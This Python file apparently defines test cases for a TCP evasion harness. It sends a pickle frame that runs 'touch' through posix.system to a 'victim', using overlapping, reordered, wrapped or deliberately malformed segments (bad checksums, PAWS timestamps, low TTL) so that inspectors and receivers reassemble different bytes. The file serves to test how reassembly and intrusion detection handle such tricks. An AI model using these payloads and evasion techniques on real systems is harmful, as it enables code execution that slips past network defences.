"""The cases of evasion.py. Each sends its segments to a fresh connection; E is a frame that runs a `touch`, B one of
the same length that does nothing; they differ in the bytes from D to S (posix.system, builtins.str).
"""
import socket
import struct

from evasion_wire import ACK, MD5, NOP, PSH, SYN, checksum, timestamp

MARKER = "/tmp/pttcp-marker"
CASES = []


class Case:
    def __init__(self, name, story, run, options):
        self.name, self.story, self.run, self.options = name, story, run, options


def case(story, **options):
    def register(function):
        CASES.append(Case(function.__name__.replace("_", "-"), story, function, options))
        return function
    return register


def frame(function, command="touch " + MARKER):
    text = command.encode()
    body = b"\x80\x02c" + function + b"\nX" + struct.pack("<I", len(text)) + text + b"\x85R."
    return struct.pack("!i", len(body)) + body


E, B = frame(b"posix\nsystem"), frame(b"builtins\nstr")
N = len(E)
D = E.index(b"posix")
S = D + 12
WEB = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"


# ---- order and cuts

@case("One segment, nothing odd.")
def plain(c):
    c.handshake()
    c.data(0, E)


@case("The harmless frame, nothing odd.")
def plain_harmless(c):
    c.handshake()
    c.data(0, B)


@case("One byte a segment.")
def bytes_forward(c):
    c.handshake()
    for i in range(N):
        c.data(i, E[i:i + 1])


@case("One byte a segment, last byte first.")
def bytes_reversed(c):
    c.handshake()
    for i in reversed(range(N)):
        c.data(i, E[i:i + 1])


@case("Every segment three times, in a mixed order.")
def repeated_and_mixed(c):
    c.handshake()
    for i in (20, 5, 0, 10, 20, 0, 15, 25, 10, 30, 5, 15, 35):
        c.data(i, E[i:i + 5] if i < 35 else E[i:])


@case("The sequence numbers wrap inside the frame.", isn=0xFFFFFFF0)
def wrap(c):
    c.handshake()
    c.data(8, E[8:])
    c.data(0, E[:8])


@case("The sequence numbers wrap inside an overlap: the old of two equal segments is queued.", isn=0xFFFFFFF0)
def wrap_overlap(c):
    c.handshake()
    c.data(D, E[D:])
    c.data(D, B[D:])
    c.data(0, E[:D])


# ---- delivered data

@case("Sent again with other bytes before it is acknowledged: exploit first.")
def again_at_once_exploit_first(c):
    c.handshake()
    c.data(0, E[:S])
    c.data(0, B[:S])
    c.data(S, E[S:])


@case("Sent again with other bytes before it is acknowledged: harmless first.")
def again_at_once_harmless_first(c):
    c.handshake()
    c.data(0, B[:S])
    c.data(0, E[:S])
    c.data(S, E[S:])


@case("Sent again with other bytes after it was acknowledged: exploit first.")
def again_late_exploit_first(c):
    c.handshake()
    c.data(0, E[:S])
    c.pump(0.08)
    c.data(0, B[:S])
    c.data(S, E[S:])


@case("Sent again with other bytes after it was acknowledged: harmless first.")
def again_late_harmless_first(c):
    c.handshake()
    c.data(0, B[:S])
    c.pump(0.08)
    c.data(0, E[:S])
    c.data(S, E[S:])


@case("A segment reaches back into what was delivered, with the exploit's bytes there.")
def straddle_back_exploit(c):
    c.handshake()
    c.data(0, B[:S])
    c.data(D, E[D:])


@case("A segment reaches back into what was delivered, with harmless bytes there.")
def straddle_back_harmless(c):
    c.handshake()
    c.data(0, E[:S])
    c.data(D, B[D:])


@case("A segment begins before the stream does and reaches into it.")
def from_before_the_stream(c):
    c.handshake()
    c.data(-9, b"\0" * 9 + E)


@case("Three bytes of the exploit delivered, a harmless segment adds the rest.")
def half_the_name(c):
    c.handshake()
    c.data(0, E[:D + 3])
    c.data(D, B[D:S] + E[S:])


# ---- queued out of order

def queued(name, story, first, second, fill):
    def run(c):
        c.handshake()
        for offset, payload in (first, second, fill):
            c.data(offset, payload)
        c.data(S, E[S:])
    run.__name__ = name
    case(story)(run)


for word, X, Y in (("exploit", E, B), ("harmless", B, E)):
    queued("queue_equal_%s_first" % word, "Two queued copies of equal extent, the %s one first." % word,
           (D, X[D:S]), (D, Y[D:S]), (0, E[:D]))
    queued("queue_longer_second_%s_first" % word,
           "Two queued copies with one start, the second longer, %s first." % word,
           (D, X[D:S]), (D, Y[D:S + 4]), (0, E[:D]))
    queued("queue_shorter_second_%s_first" % word, "Two queued copies, the second shorter, %s first." % word,
           (D, X[D:S + 4]), (D, Y[D:S]), (0, E[:D]))
    queued("queue_lower_second_%s_first" % word, "The second queued copy starts lower, %s first." % word,
           (D, X[D:S]), (D - 3, Y[D - 3:S]), (0, E[:D - 3]))
    queued("queue_higher_second_%s_first" % word,
           "The second queued copy starts inside the first and ends behind, %s first." % word,
           (D - 3, X[D - 3:S]), (D, Y[D:S + 3]), (0, E[:D - 3]))
    queued("queue_contained_%s_first" % word, "The second queued copy lies inside the first, %s first." % word,
           (D - 3, X[D - 3:S + 3]), (D, Y[D:S]), (0, E[:D - 3]))
    queued("queue_containing_%s_first" % word, "The second queued copy contains the first, %s first." % word,
           (D, X[D:S]), (D - 3, Y[D - 3:S + 3]), (0, E[:D - 3]))
    queued("fill_covers_queue_%s_queued" % word,
           "What fills the hole covers the queued copy, which is the %s one." % word,
           (D, X[D:S]), (S + 2, X[S + 2:S + 4]), (0, Y[:S]))
    queued("fill_straddles_queue_%s_queued" % word,
           "What fills the hole reaches three bytes into the queued %s copy." % word,
           (D, X[D:S]), (S + 2, X[S + 2:S + 4]), (0, Y[:D + 3]))
    queued("queue_lower_overlaps_%s_first" % word,
           "The second queued copy starts lower and ends inside the first, %s first." % word,
           (D, X[D:S]), (D - 2, Y[D - 2:D + 4]), (0, E[:D - 2]))


def merged(name, story, X, Y, reverse):
    def run(c):
        c.handshake()
        parts = [(D, X[D:D + 2]), (D + 2, X[D + 2:D + 4]), (D + 4, X[D + 4:S])]
        for offset, payload in reversed(parts) if reverse else parts:
            c.data(offset, payload)
        c.pump(0.05)
        c.data(D, Y[D:S])
        c.data(0, E[:D])
        c.data(S, E[S:])
    run.__name__ = name
    case(story)(run)


merged("queue_adjacent_exploit_first",
       "Three adjacent queued pieces of the exploit, then a harmless copy over all.", E, B, False)
merged("queue_adjacent_harmless_first",
       "Three adjacent queued harmless pieces, then the exploit over all.", B, E, False)
merged("queue_adjacent_down_exploit_first",
       "The same, pieces from the highest to the lowest, exploit first.", E, B, True)
merged("queue_adjacent_down_harmless_first",
       "The same, pieces from the highest to the lowest, harmless first.", B, E, True)


@case("Two of three queued bytes are replaced by one-byte copies.")
def queue_one_byte_storm(c):
    c.handshake()
    c.data(D, E[D:S])
    for i in range(D, S):
        c.data(i, B[i:i + 1])
    c.data(0, E[:D])
    c.data(S, E[S:])


# ---- what the receiver refuses: a harmless decoy first, then the exploit; or the exploit itself refused

def refused(name, story, before=None, timestamps=False, expects=None, **how):
    """Three cases a way of being refused: decoy then exploit, exploit alone, exploit then (good) harmless."""
    def decoy(c):
        c.handshake(timestamps)
        (before or (lambda c: None))(c)
        c.data(0, B, **values(c, how))
        c.pump(0.02)
        c.ts += 5
        c.data(0, E)

    def alone(c):
        c.handshake(timestamps)
        (before or (lambda c: None))(c)
        c.data(0, E, **values(c, how))

    def then_harmless(c):
        c.handshake(timestamps)
        (before or (lambda c: None))(c)
        c.data(0, E, **values(c, how))
        c.pump(0.02)
        c.ts += 5
        c.data(0, B)

    def web(c):
        c.handshake(timestamps)
        (before or (lambda c: None))(c)
        c.data(0, WEB, **values(c, how))
        c.pump(0.02)
        c.ts += 5
        c.data(0, E)

    for function, suffix, text in ((decoy, "decoy", "a harmless frame with it, then the exploit"),
                                   (alone, "alone", "the exploit with it, and nothing else"),
                                   (then_harmless, "then_harmless", "the exploit with it, then a harmless frame"),
                                   (web, "web_decoy", "a web request with it, then the exploit")):
        function.__name__ = name + "_" + suffix
        case(story + ": " + text + ".")(function)


def values(c, how):
    return {k: v(c) if callable(v) else v for k, v in how.items()}


refused("no_ack_flag", "Data without the ACK flag", flags=PSH)
refused("ack_beyond", "An ACK number one beyond what the victim sent", ack=1)
refused("ack_far_beyond", "An ACK number far beyond what the victim sent", ack=100000)
refused("ack_initial", "The ACK number is the victim's initial number", ack=-1)
refused("ack_old", "An ACK number far before the victim's initial number", ack=-100000)
refused("bad_sum", "A wrong TCP checksum", spoil="bad")
refused("pseudo_sum", "A checksum over the pseudo header only", spoil="pseudo")
refused("zero_sum", "A checksum of zero", sum=0)
refused("bad_ip_sum", "A wrong checksum of the IP header", spoil="ip")
refused("md5", "An unasked-for MD5 signature option", options=MD5 + NOP * 2)
refused("low_ttl", "TTL 1, which the router drops", ttl=1)
refused("paws_two_before", "A timestamp two before the latest", timestamps=True,
        options=lambda c: NOP * 2 + timestamp(c.ts - 2, c.ts_echo))
refused("paws_one_before", "A timestamp one before the latest", timestamps=True,
        options=lambda c: NOP * 2 + timestamp(c.ts - 1, c.ts_echo))
refused("paws_old", "A timestamp far before the latest", timestamps=True,
        options=lambda c: NOP * 2 + timestamp(c.ts - 500000, c.ts_echo))
refused("paws_missing", "No timestamp where they were agreed on", timestamps=True, options=b"")
refused("paws_last_counts", "Two timestamp options, a good one and an old one", timestamps=True,
        options=lambda c: timestamp(c.ts, c.ts_echo) + timestamp(c.ts - 500000, c.ts_echo))
refused("paws_first_old", "Two timestamp options, an old one and a good one", timestamps=True,
        options=lambda c: timestamp(c.ts - 500000, c.ts_echo) + timestamp(c.ts, c.ts_echo))
refused("wrong_mac", "A frame to another link address", mac=b"\x02\0\0\0\0\x77")
refused("syn_flag", "A SYN with data inside the connection", flags=SYN)
refused("syn_ack_flag", "A SYN with ACK and data inside the connection", flags=SYN | ACK)
refused("no_flags", "No flags at all", flags=0)


def raise_by_bare_ack(c):
    c.segment(ACK, c.isn + 1, c.victim_next, options=NOP * 2 + timestamp(c.ts + 1000, c.ts_echo))
    c.pump(0.02)


refused("paws_raised_by_ack", "A bare ACK raised the latest timestamp, data has the one before", raise_by_bare_ack, True)


def zero_sum_pair(c, good):
    """A frame whose sum is zero: the wire's 0x0000 and 0xffff are equal to a receiver."""
    c.handshake()
    head = struct.pack("!HHIIBBHHH", c.sport, c.dport, c.isn + 1, c.victim_next, 0x50, PSH | ACK, 0, 0, 0)
    pseudo = socket.inet_aton(c.source) + socket.inet_aton(c.destination)
    pseudo += struct.pack("!BBH", 0, 6, 20 + N)
    window = 0xFFFF - checksum(pseudo + head + E)  # what makes the sum zero
    c.data(0, E, window=window, sum=0 if good else 0xFFFF)


@case("A frame whose checksum is zero, sent as 0x0000.")
def sum_zero_as_zero(c):
    zero_sum_pair(c, True)


@case("A frame whose checksum is zero, sent as 0xffff.")
def sum_zero_as_ones(c):
    zero_sum_pair(c, False)
